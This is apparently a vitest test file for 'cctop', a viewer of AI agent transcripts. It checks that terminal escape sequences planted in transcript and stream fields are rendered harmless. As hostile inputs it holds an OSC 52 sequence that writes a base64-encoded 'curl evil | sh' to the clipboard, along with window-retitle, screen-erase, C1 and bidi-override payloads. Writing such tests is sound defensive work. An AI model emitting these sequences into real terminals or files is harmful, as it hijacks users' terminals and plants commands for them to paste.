/**
 * No transcript and no agent can write to the terminal through cctop. A transcript's fields (cwd,
 * branch, model, tool names, file paths, the session id in its file name) and an agent's stream
 * (model, session id, tool names, rate-limit fields, error text) carry the sequences found in the
 * wild: OSC 52 (writes the clipboard), OSC 0 (retitles the window), CSI (erases the screen), the
 * 8-bit CSI and OSC, and a right-to-left override. Every command prints them as marks.
 *
 * The commands run as a user runs them: the built `dist/cli.js` in a child process (no terminal, so
 * no colour, so no ESC at all), against a fake home; `cctop exec` in-process against fake agents; and
 * `cctop --list` once in a real terminal (tmux), where the clipboard and the title can be read back.
 */
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FakeBin } from '../src/drive/test-support/fake-agent.js';
import { FakeHome, jsonl, REPO } from '../src/test-support/corpus.js';
import { unless, WHY } from '../src/test-support/skips.js';
import { execCommand } from '../src/views/cli/exec.js';
import type { Io } from '../src/views/cli/main.js';

const CLI = join(REPO, 'dist', 'cli.js');

const OSC52 = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007'; // `curl evil | sh` to the clipboard
const OSC0 = '\u001b]0;pwned\u0007';
const CSI = '\u001b[2J';
const C1 = '\u009b2J\u009d2;pwned\u0007';
const RLO = '\u202e';
/** All of them, in one field. No `/` (it goes into file names) and no NUL (argv and paths refuse it). */
const EVIL = `${OSC52}${OSC0}${CSI}${C1}${RLO}`;
/** Anything a terminal acts on or hides: ESC and every other control but tab and newline, C1, bidi. */
const ACTIVE =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/;
const MARK = '\ufffd';

function cctop(args: string[], env: Record<string, string>) {
  const r = spawnSync(process.execPath, [CLI, ...args], {
    env: { PATH: process.env.PATH ?? '', ...env },
    encoding: 'utf8',
    timeout: 60_000,
  });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

/** The line that shows what is wrong: where it is, escaped so the failure message cannot act either. */
function firstActive(text: string): string | null {
  const at = text.search(ACTIVE);
  return at < 0 ? null : JSON.stringify(text.slice(Math.max(0, at - 40), at + 40));
}

/** The id prefix the commands are given; the rest of the id, from the file name, is hostile. */
const PREFIX = 'sess-hostile';

/**
 * A Claude Code session as 2.0.14 writes it (the fields of each record trimmed to what cctop
 * reads), with hostile values in every field a view shows.
 */
function hostileClaude(home: FakeHome): void {
  const base = {
    sessionId: `${PREFIX}${EVIL}`,
    cwd: `/home/u/src/${EVIL}proj`,
    gitBranch: `fix${EVIL}`,
    version: '2.0.14',
    isSidechain: false,
    userType: 'external',
  };
  home.write(
    home.claudeFile('-home-u-src-proj', `${PREFIX}${EVIL}.jsonl`),
    jsonl(
      {
        ...base,
        type: 'user',
        uuid: 'u1',
        timestamp: '2026-11-29T10:00:00Z',
        message: { role: 'user', content: `fix the parser${EVIL}` },
      },
      {
        ...base,
        type: 'assistant',
        uuid: 'u2',
        timestamp: '2026-11-29T10:00:05Z',
        requestId: 'req_1',
        message: {
          id: 'msg_1',
          role: 'assistant',
          model: `claude-${EVIL}`,
          content: [
            { type: 'text', text: `reading${EVIL}` },
            { type: 'tool_use', id: 'toolu_1', name: 'Read', input: { file_path: `/w/${EVIL}.rs` } },
            { type: 'tool_use', id: 'toolu_2', name: `mcp__${EVIL}`, input: { command: `ls ${EVIL}` } },
            {
              type: 'tool_use',
              id: 'toolu_3',
              name: 'Task',
              input: { subagent_type: `sub${EVIL}`, description: `look${EVIL}`, prompt: 'look' },
            },
          ],
          usage: { input_tokens: 5, output_tokens: 5 },
        },
      },
      {
        ...base,
        type: 'user',
        uuid: 'u3',
        timestamp: '2026-11-29T10:00:09Z',
        message: {
          role: 'user',
          content: [
            { type: 'tool_result', tool_use_id: 'toolu_1', content: `fn main() {}${EVIL}` },
            { type: 'tool_result', tool_use_id: 'toolu_2', is_error: true, content: `denied${EVIL}` },
            { type: 'tool_result', tool_use_id: 'toolu_3', content: `found${EVIL}` },
          ],
        },
      },
    ),
  );
}

let home: FakeHome;
beforeEach(() => {
  home = new FakeHome();
  hostileClaude(home);
});
afterEach(() => home.cleanup());

describe('a hostile transcript, printed by every command', () => {
  it('cctop --list shows its cwd, title, model and id as marks, with no escape left', () => {
    // Wide enough for the whole title beside the ID column: the marks stand where the escapes were.
    const r = cctop(['--list'], { ...home.env, COLUMNS: '120' });
    expect(r.code, r.err).toBe(0);
    expect(firstActive(r.out)).toBeNull();
    expect(r.out).toContain(MARK);
    expect(r.out).toContain('proj · fix the parser');
  });

  it('with colour forced on, cctop --list and report keep only cctop’s own colour codes', () => {
    for (const args of [['--list'], ['report', PREFIX]]) {
      const r = cctop(args, { ...home.env, FORCE_COLOR: '1' });
      expect(r.code, r.err).toBe(0);
      expect(r.out).toContain('\u001b[');
      const bare = r.out.replace(/\u001b\[(?:0|1|2|7|22|27|31|32|33|39)m/g, '');
      expect(firstActive(bare), args.join(' ')).toBeNull();
    }
  });

  it('cctop report shows its branch, model, tools, failures, files and subagents as marks', () => {
    const r = cctop(['report', PREFIX], home.env);
    expect(r.code, r.err).toBe(0);
    expect(firstActive(r.out)).toBeNull();
    expect(r.out).toContain(`@ fix${MARK}`);
    expect(r.out).toContain(`mcp__${MARK}`);
    expect(r.out).not.toContain('Y3VybCBldmlsIHwgc2g=');
  });

  it('cctop chat shows its messages, tool names and results as marks', () => {
    const r = cctop(['chat', PREFIX], home.env);
    expect(r.code, r.err).toBe(0);
    expect(firstActive(r.out)).toBeNull();
    expect(r.out).toContain(`fix the parser${MARK}`);
    expect(r.out).toContain(`mcp__${MARK}`);
  });

  it('cctop chat --markdown, pasted into a terminal, carries no escape either', () => {
    const r = cctop(['chat', PREFIX, '--markdown'], home.env);
    expect(r.code, r.err).toBe(0);
    expect(firstActive(r.out)).toBeNull();
    expect(r.out).toContain(`# fix the parser${MARK}`);
    expect(r.out).toContain(`in \`/home/u/src/${MARK}`);
  });

  it('cctop report --json and chat --json mean the same data, with no raw control in the text', () => {
    for (const args of [
      ['report', PREFIX, '--json'],
      ['chat', PREFIX, '--json'],
    ]) {
      const r = cctop(args, home.env);
      expect(r.code, r.err).toBe(0);
      expect(firstActive(r.out), args.join(' ')).toBeNull();
      expect(r.out).toContain('\\u009b');
      // The data is whole: the escapes are JSON's, and a reader gets the bytes back.
      expect(JSON.stringify(JSON.parse(r.out))).toContain(RLO);
    }
  });

  it('cctop doctor shows a hostile file name, bad line and unpriced model as marks', () => {
    home.write(home.claudeFile('-broken', `bad${EVIL}.jsonl`), `not json ${EVIL}\n`);
    const r = cctop(['doctor'], home.env);
    expect(firstActive(r.out)).toBeNull();
    expect(r.out).toContain('Lines that are not JSON');
    expect(r.out).toContain(`bad${MARK}`);
    expect(r.out).toContain(`claude-${MARK}`);
  });

  it('an ambiguous prefix lists the candidates with their ids as marks', () => {
    home.write(
      home.claudeFile('-home-u-src-proj', `${PREFIX}-two${EVIL}.jsonl`),
      jsonl({
        type: 'user',
        uuid: 'x',
        timestamp: '2026-11-29T11:00:00Z',
        cwd: '/w',
        message: { role: 'user', content: 'hi' },
      }),
    );
    const r = cctop(['chat', PREFIX], home.env);
    expect(r.code).toBe(2);
    expect(r.err).toContain(`${PREFIX}${MARK}`);
    expect(firstActive(r.err)).toBeNull();
  });
});

const HAVE_TMUX = spawnSync('tmux', ['-V']).status === 0;
if (!HAVE_TMUX) console.warn('tmux is not installed; the test in a real terminal is skipped');

describe.skipIf(!HAVE_TMUX)(`cctop --list in a real terminal (tmux)${unless(HAVE_TMUX, WHY.tmux)}`, () => {
  const SOCKET = `cctop-terminal-${process.pid}`;
  const tmux = (...args: string[]) =>
    spawnSync('tmux', ['-L', SOCKET, '-f', '/dev/null', ...args], { encoding: 'utf8', timeout: 10_000 });
  afterEach(() => {
    tmux('kill-server');
  });

  it('writes nothing to the clipboard and does not retitle the window', async () => {
    const env = Object.entries({ ...home.env, PATH: process.env.PATH ?? '', TERM: 'xterm-256color' })
      .map(([k, v]) => `${k}='${v}'`)
      .join(' ');
    const script = home.write(
      join(home.dir, 'run.sh'),
      `env -i ${env} '${process.execPath}' '${CLI}' --list; echo "listed $?"; exec sleep 600\n`,
    );
    tmux('new-session', '-d', '-s', 'list', '-x', '160', '-y', '40', `sh '${script}'`);
    // tmux takes OSC 52 into a paste buffer with set-clipboard on, and OSC 0 as the pane's title.
    tmux('set-option', '-g', 'set-clipboard', 'on');
    tmux('select-pane', '-t', 'list', '-T', 'before');
    const deadline = Date.now() + 30_000;
    let screen = '';
    while (!/listed \d/.test(screen)) {
      if (Date.now() > deadline) throw new Error(`cctop --list never finished:\n${screen}`);
      await new Promise((r) => setTimeout(r, 150));
      screen = tmux('capture-pane', '-p', '-t', 'list').stdout;
    }
    expect(screen).toContain('listed 0');
    expect(screen).toContain('fix the parser');
    expect(tmux('list-buffers').stdout).toBe('');
    expect(tmux('display-message', '-p', '-t', 'list', '#{pane_title}').stdout.trim()).toBe('before');
  });
});

describe('cctop exec with an agent that streams hostile fields', () => {
  let bin: FakeBin;
  beforeEach(() => {
    bin = new FakeBin();
  });
  afterEach(() => bin.cleanup());

  async function exec(args: string[], extraEnv: Record<string, string> = {}) {
    const out: string[] = [];
    const err: string[] = [];
    const io: Io = {
      out: (s) => out.push(Buffer.from(s).toString()),
      err: (s) => err.push(s),
      isTty: false,
      columns: 100,
      env: bin.env({ XDG_STATE_HOME: join(bin.dir, 'state'), ...extraEnv }),
    };
    const code = await execCommand(['-C', bin.dir, ...args], io);
    return { code, out: out.join('\n'), err: err.join('\n') };
  }

  /** Claude Code's stream-json (2.0.x), each field the transcript shows replaced by a hostile one. */
  const SESSION = `sess${EVIL}`;
  const claudeTurn = (result: object) => [
    { out: { type: 'system', subtype: 'init', session_id: SESSION, model: `claude-${EVIL}` } },
    {
      out: {
        type: 'rate_limit_event',
        session_id: SESSION,
        rate_limit_info: { status: `allowed_warning${EVIL}`, rateLimitType: `five_hour${EVIL}` },
      },
    },
    {
      out: {
        type: 'assistant',
        session_id: SESSION,
        message: {
          id: 'm1',
          content: [{ type: 'tool_use', id: 't1', name: `Bash${EVIL}`, input: { command: `ls ${EVIL}` } }],
        },
      },
    },
    {
      out: {
        type: 'user',
        session_id: SESSION,
        message: { content: [{ type: 'tool_result', tool_use_id: 't1', content: `a.txt${EVIL}` }] },
      },
    },
    {
      out: {
        type: 'assistant',
        session_id: SESSION,
        message: { id: 'm2', content: [{ type: 'text', text: `pong${EVIL}\r\nsecond line` }] },
      },
    },
    { out: { session_id: SESSION, usage: { input_tokens: 1, output_tokens: 1 }, ...result } },
  ];

  it('prints the model, session, tool, rate limit and text as marks', async () => {
    bin.add('claude', claudeTurn({ type: 'result', is_error: false, result: `pong${EVIL}` }));
    const r = await exec(['claude', 'hi']);
    expect(r.code, r.err).toBe(0);
    expect(firstActive(r.out)).toBeNull();
    expect(firstActive(r.err)).toBeNull();
    expect(r.out).toContain(`→ Bash${MARK}`);
    expect(r.out).toContain(`! rate limit: allowed_warning${MARK}`);
    expect(r.out).toMatch(/pong\ufffd+\nsecond line/);
    expect(r.err).toContain(`claude (claude-${MARK}`);
    expect(r.err).toContain(`session sess${MARK}`);
  });

  it('prints an error body from the agent as marks', async () => {
    bin.add('claude', claudeTurn({ type: 'result', is_error: true, result: `overloaded${EVIL}` }));
    const r = await exec(['claude', 'hi']);
    expect(r.code).toBe(1);
    expect(firstActive(r.err)).toBeNull();
    expect(r.err).toContain(`overloaded${MARK}`);
  });

  it('prints what a dying agent wrote to stderr as marks', async () => {
    bin.add('claude', [{ err: `panic${EVIL}\n` }, { exit: 2 }]);
    const r = await exec(['claude', 'hi']);
    expect(r.code).toBe(3);
    expect(firstActive(r.err)).toBeNull();
    expect(r.err).toContain(`panic${MARK}`);
  });

  it('--all prints each answer as marks', async () => {
    bin.add('claude', claudeTurn({ type: 'result', is_error: false, result: `pong${EVIL}` }));
    const r = await exec(['--all', 'hi'], { PATH: bin.dir });
    expect(firstActive(r.out)).toBeNull();
    expect(r.out).toContain(`── claude (claude-${MARK}`);
  });

  it('--json escapes what a terminal would act on, and keeps the data', async () => {
    bin.add('claude', claudeTurn({ type: 'result', is_error: false, result: `pong${EVIL}` }));
    const r = await exec(['claude', '--json', 'hi']);
    expect(r.code, r.err).toBe(0);
    expect(firstActive(r.out)).toBeNull();
    const last = JSON.parse(r.out.trim().split('\n').at(-1)!) as { outcome: { model: string } };
    expect(last.outcome.model).toBe(`claude-${EVIL}`);
  });
});
